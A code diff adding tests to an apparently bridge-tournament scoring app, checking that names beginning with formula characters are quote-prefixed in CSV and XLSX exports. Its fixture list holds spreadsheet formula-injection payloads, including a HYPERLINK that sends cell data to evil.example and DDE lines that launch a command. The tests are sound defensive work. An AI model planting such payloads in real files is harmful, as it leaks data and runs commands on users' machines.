@@ -22,6 +22,7 @@ from pypdf import PdfReader
 
 from duplicate import exports
 from duplicate.demo import demo_event_file
+from duplicate.exports.cells import csv_value, needs_quote
 from duplicate.exports.csv import standings_csv_text
 from duplicate.exports.rows import event_rows, standings_rows
 from duplicate.exports.xlsx import Book, number, write_sheet
@@ -356,6 +357,116 @@ def test_csv_of_standings_and_results(event):
         assert line["Result"] == result.status
         if result.ns_plus_minus is not None:
             assert line["N-S plus/minus"] == st.fraction_str(result.ns_plus_minus)
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "=1+1",
+    "#N/A",
+]
+LABEL = '=HYPERLINK("x")'  # a pair's number is text of at most 16 characters
+
+
+def _formula_event_file() -> dict:
+    """A pair contest whose names (and pair 1's number, which the results CSV carries) read as formulas."""
+    data = pairs_file(3, 2)
+
+    def renamed(value):
+        return LABEL if value == 1 else value
+
+    assert data["pairs"][0]["number"] == 1
+    data["pairs"][0].update(number=LABEL, players=[FORMULAS[0], "Basil"])
+    data["pairs"][1]["players"] = FORMULAS[1:3]
+    data["pairs"][2]["players"] = FORMULAS[3:5]
+    data["pairs"][3]["players"] = [FORMULAS[5], "Ada 1+1=2"]
+    for rnd in data["movement"]["rounds"]:
+        for table in rnd["tables"]:
+            table["ns"], table["ew"] = renamed(table["ns"]), renamed(table["ew"])
+    for result in data["results"]:
+        result["ns"], result["ew"] = renamed(result["ns"]), renamed(result["ew"])
+    return data
+
+
+def _is_number(cell: str) -> bool:
+    """An integer or an exact "p/q" value, as the CSVs write numbers."""
+    return all(part.lstrip("-").isdecimal() for part in cell.split("/", 1))
+
+
+def test_csv_names_that_read_as_formulas_are_quote_prefixed_and_numbers_stay_numbers():
+    event = event_import(data=_formula_event_file())
+    standings = list(csv.DictReader(io.StringIO(exports.standings_file(event, "csv").decode())))
+    results = list(csv.DictReader(io.StringIO(exports.results_file(event).decode())))
+    written = {row["pair"]: (row["player1"], row["player2"]) for row in standings}
+    assert written[f"'{LABEL}"] == (f"'{FORMULAS[0]}", "Basil")
+    assert written["2"] == (f"'{FORMULAS[1]}", f"'{FORMULAS[2]}")
+    assert written["3"] == (f"'{FORMULAS[3]}", f"'{FORMULAS[4]}")
+    assert written["4"] == (f"'{FORMULAS[5]}", "Ada 1+1=2")
+    assert {line["N-S pair"] for line in results if line["Table"] == "1"} == {f"'{LABEL}"}
+    # Numbers are numbers: a negative score or plus/minus is written as it is, never quote-prefixed.
+    negative = [row["plus_minus"] for row in standings if row["plus_minus"].startswith("-")]
+    assert negative
+    assert all(_is_number(value) for value in negative)
+    assert any(row["exact"].startswith("-") for row in standings)
+    assert any(line["Net N-S"].startswith("-") for line in results)
+    for table in (standings, results):
+        for row in table:
+            for cell in row.values():
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _is_number(cell), cell
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),  # text (a name), not a number
+        ("@SUM(1)", "'@SUM(1)"),
+        ("\t=1+1", "'\t=1+1"),  # names are stripped when stored; the rule covers any text all the same
+        ("\r=1+1", "'\r=1+1"),
+        ("#N/A", "'#N/A"),
+        ("Ada", "Ada"),
+        ("1+1", "1+1"),
+        ("", ""),
+        (None, ""),
+        (-30, -30),
+        (Fraction(-61, 2), "-61/2"),
+        (Fraction(30), "30"),
+        (2.5, 2.5),
+    ],
+)
+def test_one_rule_for_text_in_csv_and_xlsx(value, cell):
+    assert csv_value(value) == cell
+    assert needs_quote(value) == (isinstance(value, str) and value != "" and cell != value)
+
+
+def test_team_csv_names_that_read_as_formulas_are_quote_prefixed():
+    data = team_file()
+    data["teams"][0]["name"] = "=Reds"
+    for pair in data["pairs"]:
+        pair["team"] = "=Reds" if pair["team"] == "Reds" else pair["team"]
+    data["pairs"][0]["players"] = ["@Red1", "-Mate1"]
+    event = event_import(data=data)
+    text = standings_csv_text(standings_rows(event).standings)
+    rows = list(csv.reader(io.StringIO(text)))
+    assert {row[0] for row in rows[1:]} == {"'=Reds", "Blues"}
+    assert ["'@Red1", "'-Mate1"] in [row[4:6] for row in rows]
+    totals = [row for row in rows if row[1] == "total"]
+    assert all(_is_number(row[7]) and _is_number(row[8]) for row in totals)
+    assert any(row[7].startswith("-") for row in rows[1:])  # a negative score, written as a number
+
+
+def test_public_csv_downloads_quote_prefix_formulas(client):
+    event = event_import(data=_formula_event_file())
+    for url in (
+        reverse("download_standings", args=[event.pk, "csv"]),
+        reverse("download_results_csv", args=[event.pk]),
+    ):
+        cells = [cell for row in csv.reader(io.StringIO(client.get(url).content.decode())) for cell in row]
+        assert f"'{LABEL}" in cells
+        assert LABEL not in cells
 
 
 # -------------------------------------------------------------------------------------------- queries
